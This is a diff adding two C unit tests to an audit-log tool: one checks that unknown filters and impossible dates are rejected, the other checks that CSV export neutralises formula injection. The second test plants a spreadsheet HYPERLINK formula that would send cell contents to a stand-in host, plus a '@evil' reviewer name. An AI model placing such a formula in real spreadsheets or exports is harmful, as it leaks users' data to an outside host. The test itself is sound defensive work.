@@ -653,3 +653,50 @@ Test(audit, usage_errors_and_help)
 	    tool, h.dir), 2);
 	cr_expect(strstr(out, "NR071") != NULL, "%s", out);
 }
+
+/* Unknown names and impossible dates are errors (exit 2 with the reason),
+ * never an empty answer or another day. */
+Test(audit, unknown_filters_and_impossible_dates)
+{
+	char a[37], b[37];
+
+	traffic(a, b);
+	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --event "
+	    "nosuch", tool, h.conf), 2, "%s", out);
+	cr_expect(strstr(out, "unknown event \"nosuch\"") != NULL, "%s", out);
+	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --type "
+	    "letter", tool, h.conf), 2, "%s", out);
+	cr_expect(strstr(out, "unknown message type \"letter\"") != NULL, "%s",
+	    out);
+	cr_expect_eq(audit("query -c %s --event acked --type referral", h.conf),
+	    0, "%s", out);
+	/* an event no row holds yet, but nara writes, is a fine filter */
+	cr_expect_eq(audit("query -c %s --event retried", h.conf), 0, "%s", out);
+	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --from "
+	    "2026-11-31", tool, h.conf), 2, "%s", out);
+	cr_expect(strstr(out, "NR015") && strstr(out, "\"2026-11-31\""), "%s",
+	    out);
+	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --to "
+	    "2026-02-29T10:00:00Z", tool, h.conf), 2, "%s", out);
+	cr_expect_eq(harness_run(out, sizeof(out), "%s prune -c %s --before "
+	    "2025-13-01", tool, h.conf), 2, "%s", out);
+	cr_expect_eq(audit("query -c %s --from 2024-02-29 --to "
+	    "2099-12-31T23:59:59+01:00", h.conf), 0, "%s", out);
+}
+
+/* A reviewer's conclusion that a spreadsheet would run as a formula. */
+Test(audit, csv_cells_never_start_a_formula)
+{
+	char a[37], b[37];
+
+	traffic(a, b);
+	cr_assert_eq(audit("review record %s -c %s --reviewer '@evil' "
+	    "--conclusion '=HYPERLINK(\"http://x.example/\"&A1,\"ok\")'", a,
+	    h.conf), 0, "%s", out);
+	cr_assert_eq(audit("query -c %s --csv --event log_reviewed", h.conf), 0);
+	cr_expect(strstr(out, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,"
+	    "\"\"ok\"\")\"") != NULL, "%s", out);
+	cr_expect(strstr(out, ",\"'@evil\",") != NULL, "%s", out);
+	cr_expect(strstr(out, ",=") == NULL && strstr(out, ",@") == NULL &&
+	    strstr(out, ",\"=") == NULL, "%s", out);
+}
